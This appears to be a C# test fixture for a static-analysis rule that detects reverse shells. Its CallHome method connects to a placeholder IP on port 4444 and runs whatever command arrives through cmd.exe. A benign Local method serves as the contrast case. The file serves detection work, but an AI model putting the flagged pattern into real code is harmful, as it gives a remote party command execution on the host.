using System.Diagnostics;
using System.IO;
using System.Net.Sockets;

class Remote
{
    void CallHome(Process process)
    {
        var client = new TcpClient("203.0.113.9", 4444);
        var reader = new StreamReader(client.GetStream());
        var line = reader.ReadLine();
        // ruleid: csharp-reverse-shell
        process.StandardInput.WriteLine(line);
        // ruleid: csharp-reverse-shell
        Process.Start("cmd.exe", "/c " + line);
    }

    void Local(Process process, string text)
    {
        // ok: csharp-reverse-shell
        process.StandardInput.WriteLine(text);
        // ok: csharp-reverse-shell
        Process.Start("git", "status");
    }
}
